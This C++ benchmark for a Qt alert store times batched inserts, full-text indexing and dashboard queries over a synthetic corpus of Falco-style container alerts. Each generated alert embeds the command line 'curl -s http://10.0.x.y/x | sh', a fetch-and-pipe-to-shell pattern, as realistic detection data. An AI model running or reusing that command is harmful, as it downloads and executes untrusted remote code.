// SPDX-License-Identifier: Apache-2.0
// Store benchmark (figures, not pass/fail): batched insert rate of pre-mapped alerts with ~2 KB documents, then
// warm dashboard aggregates, count() and an ad-hoc filtered aggregate at 1M alerts (10M with FE_BENCH_10M=1).
// Targets (shared/research/perf.md §3): insert >= 100k alerts/s per 10k batch; all dashboard aggregates <= 50 ms
// warm at 1M and <= 100 ms at 10M. FE_BENCH_COUNT=N overrides the default 1M; FE_BENCH_DIR picks the directory.
#include "model/aggregates.h"
#include "model/alertstore.h"

#include <QCoreApplication>
#include <QElapsedTimer>
#include <QFile>
#include <QFileInfo>
#include <QHash>
#include <QTemporaryDir>

#include <algorithm>
#include <cstdio>
#include <ctime>
#include <random>
#include <vector>

using namespace fe;

namespace {

constexpr qint64 s_start = 1714521600000; // 2024-05-01T00:00:00Z
// 1M alerts over 7 days (~100 a minute); smaller or larger runs keep that density, so batches touch as many
// rollup rows per alert as in the 1M run.
constexpr double s_msPerAlert = 7.0 * 24 * 3600 * 1000 / 1e6;
constexpr int s_batchSize = 10000;

// A deterministic corpus shaped like research/perf.md §4.1: 60 rules with a Pareto mix, 8 priorities,
// 200 hosts, k8s and container fields, MITRE tags, ~2 KB ECS documents.
class Generator
{
public:
    Generator()
    {
        for (int i = 0; i < 60; ++i)
            m_rules << QStringLiteral("Falco rule number %1 (synthetic)").arg(i);
        for (int i = 0; i < 200; ++i)
            m_hosts << QStringLiteral("node-%1.prod.example.internal").arg(i);
    }

    AlertBatch batch(qint64 first, int count)
    {
        AlertBatch out;
        out.reserve(count);
        static const char *const tactics[] = {"execution", "persistence", "privilege_escalation", "credential_access",
                                              "discovery", "defense_evasion", "exfiltration"};
        static const char *const techniques[] = {"T1059", "T1555", "T1068", "T1611", "T1046", "T1070", "T1048"};
        static const Priority priorities[] = {Priority::Emergency, Priority::Alert,  Priority::Critical,
                                              Priority::Error,     Priority::Warning, Priority::Notice,
                                              Priority::Informational, Priority::Debug};
        for (qint64 n = first; n < first + count; ++n) {
            // Pareto-ish: rule index = floor(60 * u^3).
            const double u = std::uniform_real_distribution<double>(0, 1)(m_rng);
            const int rule = std::min(59, int(60 * u * u * u));
            const int host = int(m_rng() % 200);
            const int pod = int(m_rng() % 500);
            const int mitre = rule % 7;
            Alert a;
            a.timestampMs = s_start + qint64(double(n) * s_msPerAlert) + qint64(m_rng() % 1000);
            a.priority = priorities[(rule + int(m_rng() % 3)) % 8];
            a.severity = severityForPriority(a.priority);
            a.rule = m_rules[rule];
            a.hostname = m_hosts[host];
            a.source = QStringLiteral("syscall");
            a.containerId = QStringLiteral("%1").arg(pod * 7919 + 1000000000, 12, 16, QLatin1Char('0'));
            a.containerName = QStringLiteral("app-%1").arg(pod % 40);
            a.containerImage = intern(QStringLiteral("registry.example.com/team/app-%1").arg(pod % 40));
            a.podName = QStringLiteral("app-%1-7d9f8c6b5-%2").arg(pod % 40).arg(pod);
            a.namespaceName = intern(QStringLiteral("ns-%1").arg(pod % 12));
            a.processName = QStringLiteral("bash");
            a.commandLine = QStringLiteral("bash -c curl -s http://10.0.%1.%2/x | sh").arg(host % 255).arg(pod % 255);
            a.userName = QStringLiteral("root");
            a.technique = intern(QLatin1String(techniques[mitre]));
            a.tactics = {intern(QLatin1String(tactics[mitre]))};
            a.tags = {intern(QStringLiteral("container")),
                      intern(QStringLiteral("mitre_%1").arg(QLatin1String(tactics[mitre]))),
                      intern(QLatin1String(techniques[mitre]))};
            a.output = QStringLiteral("%1 | A shell was spawned in a container with an attached terminal "
                                      "(evt_type=execve user=root user_uid=0 process=bash proc_exepath=/usr/bin/bash "
                                      "parent=runc command=%2 terminal=34816 container_id=%3 container_name=%4)")
                           .arg(QString::number(a.timestampMs), a.commandLine, a.containerId, a.containerName);
            a.uuid = QStringLiteral("9b1f%1-0c4e-4f43-9d43-%2").arg(n, 8, 16, QLatin1Char('0')).arg(n * 31, 12, 16, QLatin1Char('0'));
            a.dedupeKey = "u:" + a.uuid.toUtf8();
            a.ecsJson = document(a);
            out.append(std::move(a));
        }
        return out;
    }

private:
    // One QString per distinct value, as the mapper shares repeated short columns (rule, host, image, namespace,
    // process, user, tags, tactics, technique) within a thread: the store sees the same strings it sees in production.
    QString intern(const QString &value)
    {
        auto it = m_interned.constFind(value);
        if (it == m_interned.cend())
            it = m_interned.insert(value, value);
        return it.value();
    }

    static QByteArray document(const Alert &a)
    {
        QByteArray doc;
        doc.reserve(2200);
        doc += R"({"@timestamp":")" + QByteArray::number(a.timestampMs) + R"(","ecs":{"version":"8.11.0"},)";
        doc += R"("event":{"kind":"alert","category":["process"],"type":["start"],"provider":"syscall","severity":)"
            + QByteArray::number(a.severity) + R"(,"dataset":"falco.alerts","module":"falco"},)";
        doc += R"("rule":{"name":")" + a.rule.toUtf8() + R"("},"host":{"name":")" + a.hostname.toUtf8() + R"("},)";
        doc += R"("container":{"id":")" + a.containerId.toUtf8() + R"(","name":")" + a.containerName.toUtf8()
            + R"(","image":{"name":")" + a.containerImage.toUtf8() + R"(","tag":["1.4.2"]},"runtime":"containerd"},)";
        doc += R"("orchestrator":{"type":"kubernetes","namespace":")" + a.namespaceName.toUtf8()
            + R"(","resource":{"type":"pod","name":")" + a.podName.toUtf8() + R"("}},)";
        doc += R"("process":{"name":"bash","executable":"/usr/bin/bash","command_line":")" + a.commandLine.toUtf8()
            + R"(","pid":4242,"parent":{"name":"runc","pid":4200,"executable":"/usr/bin/runc"},)"
              R"("user":{"name":"root","id":"0"},"group":{"name":"root","id":"0"},"tty":{"char_device":{"major":136}}},)";
        doc += R"("threat":{"framework":"MITRE ATT&CK","technique":{"id":[")" + a.technique.toUtf8()
            + R"("]},"tactic":{"name":[")" + a.tactics.value(0).toUtf8() + R"("]}},)";
        doc += R"("falco":{"output":")" + a.output.toUtf8() + R"(","priority":")" + priorityName(a.priority).toUtf8()
            + R"(","uuid":")" + a.uuid.toUtf8() + R"(","tags":["container","shell"],"hostname":")"
            + a.hostname.toUtf8() + R"(","output_fields":{"container.id":")" + a.containerId.toUtf8()
            + R"(","evt.type":"execve","proc.cmdline":")" + a.commandLine.toUtf8()
            + R"(","proc.exepath":"/usr/bin/bash","user.loginuid":-1,"k8s.ns.name":")" + a.namespaceName.toUtf8()
            + R"(","k8s.pod.name":")" + a.podName.toUtf8() + R"("}},)";
        doc += R"("related":{"hosts":[")" + a.hostname.toUtf8() + R"("],"user":["root"]},"tags":["preserve_original_event"],)";
        doc += R"("data_stream":{"dataset":"falco.alerts","namespace":"default","type":"logs"},)";
        doc += R"("observer":{"product":"falco","vendor":"sysdig","type":"sensor"},"message":")"
            + a.output.toUtf8() + R"("})";
        return doc;
    }

    std::mt19937_64 m_rng{42};
    QStringList m_rules;
    QStringList m_hosts;
    QHash<QString, QString> m_interned;
};

// Thread CPU time (user + system): the machine is shared, so wall time alone says little about our own cost.
double cpuSeconds()
{
    timespec ts{};
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return double(ts.tv_sec) + double(ts.tv_nsec) / 1e9;
}

QString loadAverage()
{
    QFile file(QStringLiteral("/proc/loadavg"));
    if (!file.open(QIODevice::ReadOnly))
        return QStringLiteral("?");
    return QString::fromLatin1(file.readAll().split(' ').value(0));
}

double median(std::vector<double> values)
{
    std::sort(values.begin(), values.end());
    return values[values.size() / 2];
}

struct Timing
{
    double wallMs;
    double cpuMs;
};

// Median wall and CPU time of runs calls after one warm-up call.
template<typename Fn>
Timing timeMedian(int runs, Fn fn)
{
    std::vector<double> wall;
    std::vector<double> cpu;
    fn(); // warm
    for (int i = 0; i < runs; ++i) {
        QElapsedTimer t;
        t.start();
        const double c0 = cpuSeconds();
        fn();
        cpu.push_back((cpuSeconds() - c0) * 1e3);
        wall.push_back(double(t.nsecsElapsed()) / 1e6);
    }
    return {median(wall), median(cpu)};
}

void dashboardFigures(AlertStore &reader, qint64 alerts)
{
    const double label = double(alerts) / 1e6;
    const qint64 end = s_start + qint64(double(alerts) * s_msPerAlert);
    struct Case
    {
        const char *name;
        AlertFilter filter;
    };
    AlertFilter all;
    AlertFilter day;
    day.fromMs = end - 24 * 3600 * 1000 - 12345;
    day.toMs = end - 4321;
    AlertFilter hour;
    hour.fromMs = end - 3600 * 1000 - 777;
    hour.toMs = end;
    const Case cases[] = {{"all time (open-ended)", all}, {"last 24 h (ragged edges)", day}, {"last hour", hour}};
    for (const Case &c : cases) {
        DashboardData data;
        QString error;
        const Timing ms = timeMedian(5, [&] { computeDashboard(reader, c.filter, AggregateOptions{}, &data, &error); });
        std::printf("  dashboard, all panels, %-26s %.1fM alerts: %8.2f ms wall, %8.2f ms CPU (median of 5, warm; "
                    "total %lld, %d time buckets of %lld s, rollups=%d)%s\n",
                    c.name, label, ms.wallMs, ms.cpuMs, static_cast<long long>(data.total), int(data.overTime.size()),
                    static_cast<long long>(data.intervalMs / 1000), data.fromRollups ? 1 : 0,
                    error.isEmpty() ? "" : qPrintable(QStringLiteral(" ERROR ") + error));
    }
    qint64 n = 0;
    Timing ms = timeMedian(5, [&] { n = reader.count(); });
    std::printf("  count() unfiltered                               %.1fM alerts: %8.3f ms wall, %8.3f ms CPU (= %lld)\n",
                label, ms.wallMs, ms.cpuMs, static_cast<long long>(n));
    ms = timeMedian(5, [&] { n = reader.count(day); });
    std::printf("  count() last 24 h                                %.1fM alerts: %8.3f ms wall, %8.3f ms CPU (= %lld)\n",
                label, ms.wallMs, ms.cpuMs, static_cast<long long>(n));
    AlertFilter adhoc;
    adhoc.query = QStringLiteral("priority:Critical");
    AlertFilter adhocText;
    adhocText.query = QStringLiteral("host.name:node-7.prod.example.internal");
    AlertFilter adhocFts;
    adhocFts.query = QStringLiteral("app-13");
    const Case adhocCases[] = {{"priority:Critical, all time", adhoc},
                               {"host.name:node-7..., all time", adhocText},
                               {"free text app-13, all time", adhocFts}};
    for (const Case &c : adhocCases) {
        DashboardData data;
        QString error;
        const Timing adhocMs =
            timeMedian(3, [&] { computeDashboard(reader, c.filter, AggregateOptions{}, &data, &error); });
        std::printf("  ad-hoc dashboard (base table) %-30s %.1fM: %8.1f ms wall, %8.1f ms CPU (median of 3; matched "
                    "%lld)%s\n",
                    c.name, label, adhocMs.wallMs, adhocMs.cpuMs, static_cast<long long>(data.total),
                    error.isEmpty() ? "" : qPrintable(QStringLiteral(" ERROR ") + error));
        const Timing countMs = timeMedian(3, [&] { reader.count(c.filter); });
        std::printf("  count() %-52s %.1fM: %8.1f ms wall, %8.1f ms CPU\n", c.name, label, countMs.wallMs,
                    countMs.cpuMs);
    }
    QVector<AlertSummary> newest;
    ms = timeMedian(5, [&] { newestAlerts(reader, {}, 100, &newest); });
    std::printf("  newestAlerts(100), all time                      %.1fM alerts: %8.3f ms wall, %8.3f ms CPU\n", label,
                ms.wallMs, ms.cpuMs);
    std::fflush(stdout);
}

} // namespace

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    const bool tenMillion = qEnvironmentVariableIntValue("FE_BENCH_10M") == 1;
    qint64 total = tenMillion ? 10000000 : 1000000;
    if (qEnvironmentVariableIsSet("FE_BENCH_COUNT"))
        total = qEnvironmentVariable("FE_BENCH_COUNT").toLongLong();
    const QString base = qEnvironmentVariable("FE_BENCH_DIR");
    QTemporaryDir dir(base.isEmpty() ? QDir::tempPath() + QStringLiteral("/bench_store-XXXXXX")
                                     : base + QStringLiteral("/bench_store-XXXXXX"));
    const QString path = dir.filePath(QStringLiteral("alerts.db"));
    AlertStore writer;
    QString error;
    if (!writer.open(path, AlertStore::OpenMode::ReadWrite, &error)) {
        std::fprintf(stderr, "bench_store: %s\n", qPrintable(error));
        return 1;
    }
    std::printf("bench_store: %lld alerts in batches of %d into %s\n", static_cast<long long>(total), s_batchSize,
                qPrintable(path));
    Generator generator;
    double insertSeconds = 0;
    double insertCpu = 0;
    double secondHalfCpu = 0;   // the writer's CPU over the second half of the alerts: past the cold start
    qint64 secondHalfCount = 0;
    double firstSeconds = 0;
    qint64 firstCount = 0;
    qint64 docBytes = 0;
    std::vector<double> batchRates;
    const qint64 reportEvery = std::max<qint64>(total / 10, s_batchSize);
    for (qint64 first = 0; first < total; first += s_batchSize) {
        const int count = int(std::min<qint64>(s_batchSize, total - first));
        const AlertBatch batch = generator.batch(first, count);
        for (const Alert &a : batch)
            docBytes += a.ecsJson.size();
        QElapsedTimer t;
        t.start();
        const double c0 = cpuSeconds();
        const InsertResult r = writer.insert(batch, &error);
        const double batchCpu = cpuSeconds() - c0;
        insertCpu += batchCpu;
        if (first >= total / 2) {
            secondHalfCpu += batchCpu;
            secondHalfCount += count;
        }
        const double s = double(t.nsecsElapsed()) / 1e9;
        if (r.stored != count) {
            std::fprintf(stderr, "bench_store: insert failed: %s\n", qPrintable(error));
            return 1;
        }
        insertSeconds += s;
        batchRates.push_back(count / s);
        if (first < 100000) {
            firstSeconds += s;
            firstCount += count;
        }
        if ((first + count) % reportEvery == 0)
            std::printf("  ... %lld stored, %.0f alerts/s wall, %.0f alerts per CPU-second so far\n",
                        static_cast<long long>(first + count), double(first + count) / insertSeconds,
                        double(first + count) / insertCpu);
        std::fflush(stdout);
    }
    std::printf("  insert: mean document %lld B; first 100k: %.0f alerts/s; all %lld: %.0f alerts/s wall "
                "(median batch %.0f alerts/s), %.0f alerts per CPU-second (user+sys of the writer thread)\n",
                static_cast<long long>(docBytes / total), firstCount / firstSeconds, static_cast<long long>(total),
                total / insertSeconds, median(batchRates), total / insertCpu);
    std::printf("  writer CPU per alert: %.2f us all, %.2f us over the second half (load %s)\n",
                insertCpu * 1e6 / double(total), secondHalfCpu * 1e6 / double(std::max<qint64>(secondHalfCount, 1)),
                qPrintable(loadAverage()));
    // Large batches leave their outputs out of the full-text index (schema v3): the catch-up is timed apart, so the
    // insert rate and the total (insert + index) are both visible.
    const qint64 pending = writer.pendingIndexRows();
    QElapsedTimer t;
    t.start();
    double c0 = cpuSeconds();
    const qint64 indexed = writer.indexPending();
    const double indexCpu = cpuSeconds() - c0;
    std::printf("  full-text catch-up: %lld of %lld pending outputs in %.0f ms wall, %.0f ms CPU (%.0f outputs per "
                "CPU-second); insert + index: %.0f alerts per CPU-second\n",
                static_cast<long long>(indexed), static_cast<long long>(pending), double(t.nsecsElapsed()) / 1e6,
                indexCpu * 1e3, indexed / std::max(indexCpu, 1e-9), total / (insertCpu + indexCpu));
    t.restart();
    writer.optimize();
    std::printf("  optimize() (ANALYZE, checkpoint): %.0f ms; file %.0f MB\n", double(t.nsecsElapsed()) / 1e6,
                double(QFileInfo(path).size()) / 1e6);

    AlertStore reader;
    if (!reader.open(path, AlertStore::OpenMode::ReadOnly, &error)) {
        std::fprintf(stderr, "bench_store: %s\n", qPrintable(error));
        return 1;
    }
    dashboardFigures(reader, total);
    return 0;
}
